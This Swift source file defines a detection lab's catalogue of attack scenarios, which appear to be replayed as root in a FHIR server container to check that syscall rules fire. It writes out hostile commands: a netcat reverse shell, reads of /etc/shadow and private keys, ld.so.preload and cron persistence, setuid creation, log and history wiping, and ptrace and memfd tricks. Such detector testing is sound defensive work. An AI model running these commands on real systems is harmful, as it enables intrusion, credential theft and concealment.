import LabReport

/// One attack technique the lab plays inside the FHIR server's container, with the rules
/// that should catch it. Commands run as `sh -c` with the lab's toolkit (a static busybox
/// and `behave`, Scripts/sensor/behave.c) on the PATH, as root: the attacker has turned a
/// foothold in the server into root in its container.
public struct AttackScenario: Sendable {
    public let id: String
    public let name: String
    public let tactic: String
    public let technique: String
    /// Rule ids that should fire; empty when syscall monitoring cannot see the technique.
    public let expectedRules: [String]
    /// Where those rules' alerts are looked for.
    public let source: DetectionSource
    /// The syscalls whose refusal stops the attack: when the sensor sees one of them return
    /// EPERM or EACCES in the scenario's window, the scenario was prevented (`AttackLab.verdict`).
    /// Empty for the plays from the host and the fork bomb, which no refusal of a call prevents.
    public let guardedSyscalls: [String]
    /// The shell command played in the container (for host-side plays, what they do, in words).
    public let command: String
    /// Why nothing is expected, or what the scenario shows beyond its rules.
    public let note: String?
    /// How the lab plays the scenario and judges what it achieved.
    public let play: Play
    /// Played in the lab's privileged container (`--cap-add SYS_ADMIN`, seccomp and AppArmor
    /// unconfined) rather than the ordinary one: see `withPrivileges()`.
    public let privileged: Bool
    /// Privileges change what this scenario achieves here (checked on this VM, not assumed):
    /// the lab plays it a second time in the privileged container.
    public let hasPrivilegedVariant: Bool

    /// How a scenario is played, and so what its outcome column says.
    public enum Play: Sendable, Equatable {
        /// `command` in the container. When `judged`, its exit status is the attack's own:
        /// 0 when the syscall that matters succeeded, anything else when it was refused (the
        /// errno is read from what the command printed). Otherwise the column says only that it ran.
        case container(judged: Bool)
        /// `command` is the bounded fork bomb (`ImpactScenarios.forkBombScript`); the lab then
        /// checks from the host that the pids limit held it, that the server still answers and
        /// that no process of the bomb is left.
        case forkBomb
        /// Many concurrent HTTP requests against the FHIR API, from the host.
        case requestFlood
        /// Every Patient and their Observations paged out through the FHIR API, from the host.
        case fhirExfiltration
    }

    public init(
        _ id: String, _ name: String, tactic: String, technique: String, expects expectedRules: [String],
        guards: [String] = [],
        command: String,
        note: String? = nil, play: Play = .container(judged: false), privileged: Bool = false,
        hasPrivilegedVariant: Bool = false,
        source: DetectionSource = .kernel
    ) {
        self.id = id
        self.name = name
        self.tactic = tactic
        self.technique = technique
        self.expectedRules = expectedRules
        self.guardedSyscalls = guards
        self.source = source
        self.command = command
        self.note = note
        self.play = play
        self.privileged = privileged
        self.hasPrivilegedVariant = hasPrivilegedVariant
    }

    /// Whether the scenario runs a command in a container (the others act from the host).
    public var runsInContainer: Bool {
        switch play {
        case .container, .forkBomb: true
        case .requestFlood, .fhirExfiltration: false
        }
    }

    /// The same attack played in the privileged container, `id+sys_admin`: the same command,
    /// so that the two rows differ only in what the container allows.
    public func withPrivileges() -> AttackScenario {
        AttackScenario(
            id + "+sys_admin", name + " (SYS_ADMIN, unconfined)", tactic: tactic, technique: technique,
            expects: expectedRules,
            guards: guardedSyscalls, command: command, note: note, play: play, privileged: true, source: source)
    }
}

extension AttackScenario {
    /// The lab's scenarios, one per technique: those played as root in the container, the
    /// escapes (`EscapeScenarios.swift`), then denial of service and exfiltration
    /// (`ImpactScenarios.swift`). Every scenario removes what it created.
    public static let all: [AttackScenario] = inContainer + escapes + impact

    /// The escapes whose outcome privileges change, played again in the privileged container.
    public static var privilegedVariants: [AttackScenario] {
        all.filter(\.hasPrivilegedVariant).map { $0.withPrivileges() }
    }

    /// Every scenario the lab can play, variants included: what `--list` and `--scenario` know.
    public static var catalogue: [AttackScenario] { all + privilegedVariants }

    /// The syscalls guarded by any of `scenarios`: what the lab's detector watches for refusals
    /// (`LiveDetector(watchingRefusalsOf:)`).
    public static func guardedSyscalls(of scenarios: [AttackScenario]) -> Set<String> {
        Set(scenarios.flatMap(\.guardedSyscalls))
    }

    /// Techniques played as root in the container with the toolkit. `$LISTEN_PORT` is a
    /// listener on 127.0.0.1 that the lab opens for reverse shells.
    static let inContainer: [AttackScenario] = [
        .init(
            "shell-from-server", "Shell spawned by the FHIR server", tactic: "execution", technique: "T1059.004",
            expects: ["CAD-001"], guards: ["execve"],
            command: "ln -sf /opt/lab/busybox /opt/lab/caduceus && exec -a sh /opt/lab/caduceus -c 'sh -c id; true'",
            note: "the toolkit's busybox run under the server's name stands in for a command injection in it"),
        .init(
            "reverse-shell", "Reverse shell to a 127.0.0.1 listener", tactic: "execution", technique: "T1059.004",
            expects: ["CAD-003", "CAD-004"], guards: ["connect", "execve"],
            command: "nc 127.0.0.1 $LISTEN_PORT -e /opt/lab/bin/sh"),
        .init(
            "script-in-tmp", "Script dropped in /tmp and run", tactic: "execution", technique: "T1059.004",
            expects: ["CAD-016"], guards: ["openat", "execve"],
            command:
                "mkdir -p /tmp && printf '#!/opt/lab/bin/sh\\nid\\n' > /tmp/lab.sh && chmod +x /tmp/lab.sh && /tmp/lab.sh; rm -f /tmp/lab.sh"
        ),
        .init(
            "cron", "Cron job planted", tactic: "persistence", technique: "T1053.003", expects: ["CAD-033"],
            guards: ["openat"],
            command: "mkdir -p /etc/cron.d && echo '* * * * * root id' > /etc/cron.d/lab; rm -f /etc/cron.d/lab"),
        .init(
            "ld-so-preload", "ld.so.preload written", tactic: "persistence", technique: "T1574.006",
            expects: ["CAD-031"], guards: ["openat"],
            command: "echo /tmp/lab.so > /etc/ld.so.preload; rm -f /etc/ld.so.preload"),
        .init(
            "setuid", "Setuid binary created", tactic: "privilege-escalation", technique: "T1548.001",
            expects: ["CAD-042"],
            guards: ["openat", "chmod", "fchmodat"],
            command: "cp /opt/lab/busybox /tmp/lab-suid && chmod u+s /tmp/lab-suid; rm -f /tmp/lab-suid"),
        .init(
            "capability-raw-socket", "Raw packet socket (CAP_NET_RAW)", tactic: "discovery", technique: "T1040",
            expects: ["CAD-041"],
            guards: ["socket"],
            command: "behave packet-socket"),
        .init(
            "clear-logs", "Log file cleared", tactic: "defense-evasion", technique: "T1070.002", expects: ["CAD-036"],
            guards: ["openat", "truncate"],
            command:
                "mkdir -p /var/log && echo entry > /var/log/lab.log && : > /var/log/lab.log; rm -f /var/log/lab.log"),
        .init(
            "clear-history", "Shell history removed", tactic: "defense-evasion", technique: "T1070.003",
            expects: ["CAD-037"],
            guards: ["openat", "unlink", "unlinkat"],
            command: "mkdir -p /root && echo id > /root/.ash_history && rm /root/.ash_history"),
        .init(
            "timestomp", "Timestamps of a file changed", tactic: "defense-evasion", technique: "T1070.006", expects: [],
            guards: ["openat", "utimensat"],
            command: "echo x > /tmp/lab-ts && touch -d '2001-01-01 00:00' /tmp/lab-ts; rm -f /tmp/lab-ts",
            note:
                "no rule expected here (the report tests' example of such a row); CAD-064 judges this touch by the sh -c text it inherits"
        ),
        // Judged, like the escapes: a seccomp profile without memfd_create or ptrace (the FHIR
        // container's generated one) refuses these, where Docker's default lets them through.
        .init(
            "memfd", "Fileless execution from memfd", tactic: "defense-evasion", technique: "T1620",
            expects: ["CAD-015"],
            guards: ["memfd_create", "execveat"],
            command:
                #"out=$(behave memfd-exec); echo "$out"; case "$out" in *"memfd program exited with 0"*) exit 0;; esac; exit 1"#,
            play: .container(judged: true)),
        .init(
            "drop-and-run", "Binary dropped and run", tactic: "defense-evasion", technique: "T1105",
            expects: ["CAD-013"],
            guards: ["openat", "execve"],
            command:
                "mkdir -p /usr/local/lab && cat /opt/lab/busybox > /usr/local/lab/true && chmod +x /usr/local/lab/true && /usr/local/lab/true; rm -rf /usr/local/lab"
        ),
        .init(
            "shadow", "/etc/shadow read", tactic: "credential-access", technique: "T1003.008", expects: ["CAD-007"],
            guards: ["openat"],
            command: "/opt/lab/bin/cat /etc/shadow > /dev/null"),
        .init(
            "key-search", "Private key search", tactic: "credential-access", technique: "T1552.004",
            expects: ["CAD-009"], guards: ["openat"],
            command: "/opt/lab/bin/find / -xdev -name id_rsa > /dev/null 2>&1; true"),
        .init(
            "port-scan", "Localhost port scan", tactic: "discovery", technique: "T1046", expects: ["CAD-065"],
            guards: ["connect"],
            command: "behave port-scan 127.0.0.1 20 60 > /dev/null"),
        .init(
            "aslr", "ASLR setting inspected", tactic: "discovery", technique: "T1082", expects: ["CAD-044"],
            guards: ["openat"],
            command: "/opt/lab/bin/cat /proc/sys/kernel/randomize_va_space > /dev/null"),
        .init(
            "ptrace", "ptrace attach (code injection)", tactic: "defense-evasion", technique: "T1055.008",
            expects: ["CAD-017"], guards: ["ptrace"],
            command:
                #"out=$(behave ptrace-attach); echo "$out"; case "$out" in *"ptrace(PTRACE_ATTACH, child) = 0"*) exit 0;; esac; exit 1"#,
            play: .container(judged: true)),
        .init(
            "anti-debug", "PTRACE_TRACEME anti-debugging", tactic: "defense-evasion", technique: "T1622",
            expects: ["CAD-018"], guards: ["ptrace"],
            command:
                #"out=$(behave ptrace-traceme); echo "$out"; case "$out" in *"ptrace(PTRACE_TRACEME) = 0"*) exit 0;; esac; exit 1"#,
            play: .container(judged: true)),
    ]
}
